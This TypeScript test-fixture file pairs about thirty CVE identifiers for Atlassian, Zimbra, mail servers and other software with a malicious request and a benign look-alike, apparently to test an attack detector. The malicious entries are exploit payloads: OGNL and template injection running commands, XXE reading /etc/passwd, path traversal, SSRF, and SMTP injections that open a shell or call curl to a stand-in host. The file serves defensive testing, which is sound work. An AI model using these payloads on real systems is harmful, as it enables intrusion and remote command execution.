import type { Cases } from './cases.ts';

export const atlassianMail: Cases = {
  'CVE-2021-26084': [
    'POST /pages/doenterpagevariables.action\n\nqueryString=%5cu0027%2b%7b7*7%7d%2b%5cu0027',
    'GET /pages/viewpage.action?pageId=71',
  ],
  'CVE-2022-26134': [
    'GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/',
    'GET /%24%7Btitle%7D/',
  ],
  'CVE-2023-22515': [
    'GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false',
    'GET /server-info.action',
  ],
  'CVE-2023-22518': [
    'POST /json/setup-restore.action?synchronous=true\n\na',
    'POST /json/restore.action\n\na',
  ],
  'CVE-2023-22527': [
    'POST /template/aui/text-inline.vm\n\nlabel=%5cu0027%2b%23request',
    'GET /template/aui/text.css',
  ],
  'CVE-2019-3396': [
    'POST /rest/tinymce/1/macro/preview\n\n{"contentId":"1","macro":{"name":"widget","params":{"url":"http://a.example","_template":"file:///etc/passwd"}}}',
    'POST /rest/tinymce/1/macro/preview\n\n{"contentId":"1","macro":{"name":"toc"}}',
  ],
  'CVE-2021-26085': ['GET /s/123cfx/_/;/WEB-INF/web.xml', 'GET /s/123cfx/_/download/batch/a.js'],
  'CVE-2021-26086': ['GET /s/cfx/_/;/WEB-INF/classes/seraph-config.xml', 'GET /s/cfx/_/styles/a.css'],
  'CVE-2019-11581': [
    'POST /secure/ContactAdministrators.jspa\n\nsubject=$i18n.getClass().forName(%27java.lang.Runtime%27)&details=a',
    'POST /contact/ContactAdministrators\n\nsubject=Hello&details=a',
  ],
  'CVE-2019-8451': [
    'GET /plugins/servlet/gadgets/makeRequest?url=http://decoy.example@198.51.100.7/',
    'GET /plugins/servlet/gadgets/js/core.js',
  ],
  'CVE-2017-9506': [
    'GET /plugins/servlet/oauth/users/icon-uri?consumerUri=http://198.51.100.7',
    'GET /plugins/servlet/oauth/users',
  ],
  'CVE-2022-0540': [
    'GET /secure/InsightPluginShowGeneralConfiguration.jspa;',
    'GET /secure/InsightPluginShowGeneralConfiguration.jspa',
  ],
  'CVE-2020-14179': ['GET /secure/QueryComponent!Default.jspa', 'GET /secure/Dashboard.jspa'],
  'CVE-2022-36804': [
    'GET /rest/api/latest/projects/A/repos/b/archive?filename=a&at=b&path=c&prefix=ax%00--exec=%60id%60%00--remote=origin',
    'GET /rest/api/latest/projects/A/repos/b/archive?prefix=src',
  ],
  'CVE-2019-11580': ['POST /crowd/admin/uploadplugin.action\n\na', 'POST /admin/uploadplugin\n\na'],
  'CVE-2025-24893': [
    'GET /xwiki/bin/get/Main/SolrSearch?media=rss&text=%7D%7D%7D%7B%7Basync%20async%3Dfalse%7D%7D%7B%7Bgroovy%7D%7Dprintln(1)%7B%7B%2Fgroovy%7D%7D',
    'GET /xwiki/bin/view/Main/SolrSearch?text=groovy',
  ],
  'CVE-2022-27925': [
    'POST /service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1\n\nPK',
    'POST /service/extension/backup/status\n\na',
  ],
  'CVE-2019-9670': [
    'POST /Autodiscover/Autodiscover.xml\n\n<!DOCTYPE xxe [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Autodiscover><Request><EMailAddress>a</EMailAddress><AcceptableResponseSchema>&xxe;</AcceptableResponseSchema></Request></Autodiscover>',
    'POST /Autodiscover/Autodiscover.xml\n\n<Autodiscover><Request><EMailAddress>a</EMailAddress><AcceptableResponseSchema>a</AcceptableResponseSchema></Request></Autodiscover>',
  ],
  'CVE-2022-24682': ['GET /h/calendar?view=day&a=%22%3E%3Cscript%3E', 'GET /h/calendar?view=day'],
  'CVE-2023-37580': ['GET /m/momoveto?st=%22onmouseover%3Dalert(1)', 'GET /m/momoveto?st=message'],
  'CVE-2024-45519': [
    'bytes:EHLO a\r\nMAIL FROM:<a@decoy.example>\r\nRCPT TO:<"aabbb$(curl${IFS}198.51.100.7)"@decoy.example>\r\n',
    'bytes:RCPT TO:<mara@decoy.example>\r\n',
  ],
  'CVE-2025-68645': [
    'GET /h/rest?javax.servlet.include.servlet_path=/WEB-INF/web.xml',
    'GET /h/rest?view=mail',
  ],
  'CVE-2025-49113': [
    'POST /?_from=edit-%21%C2%22%3B&_task=settings&_framed=1&_remote=1&_id=1&_uploadid=1&_unlock=1&_action=upload\n\na',
    'POST /?_from=edit-identity&_task=settings&_action=upload\n\na',
  ],
  'CVE-2023-32315': [
    'GET /setup/setup-s/%u002e%u002e/%u002e%u002e/user-create.jsp?csrf=a&username=b',
    'GET /setup/index.jsp',
  ],
  'CVE-2025-52691': [
    'POST /api/upload\n\n--a\nContent-Disposition: form-data; name="contextData"\n\n{"guid":"dag/../../../../inetpub/a"}\n--a--',
    'POST /api/upload\n\n--a\nContent-Disposition: form-data; name="contextData"\n\n{"guid":"7d1e"}\n--a--',
  ],
  'CVE-2026-23760': [
    'POST /api/v1/auth/force-reset-password\n\n{"IsSysAdmin":"true","Username":"admin"}',
    'POST /api/v1/auth/reset-password\n\n{}',
  ],
  'CVE-2021-22911': [
    'POST /api/v1/method.callAnon/getPasswordPolicy\n\n{"message":"{\\"method\\":\\"getPasswordPolicy\\",\\"params\\":[{\\"token\\":{\\"$regex\\":\\"^a\\"}}]}"}',
    'POST /api/v1/method.callAnon/getPasswordPolicy\n\n{"message":"{}"}',
  ],
  'CVE-2017-7615': ['GET /verify.php?id=1&confirm_hash=', 'GET /verify.php?id=1&confirm_hash=ab12'],
  'CVE-2019-10149': ['bytes:RCPT TO:<${run{\\x2Fbin\\x2Fsh}}@localhost>', 'bytes:RCPT TO:<run@localhost>'],
  'CVE-2020-7247': [
    'bytes:MAIL FROM:<;for i in 0 1 2;do read r;done;sh;exit 0;>',
    'bytes:MAIL FROM:<a@decoy.example>',
  ],
  'CVE-2020-35489': ['GET /wp-content/uploads/wpcf7_uploads/a.php', 'GET /wp-content/uploads/2026/a.png'],
};
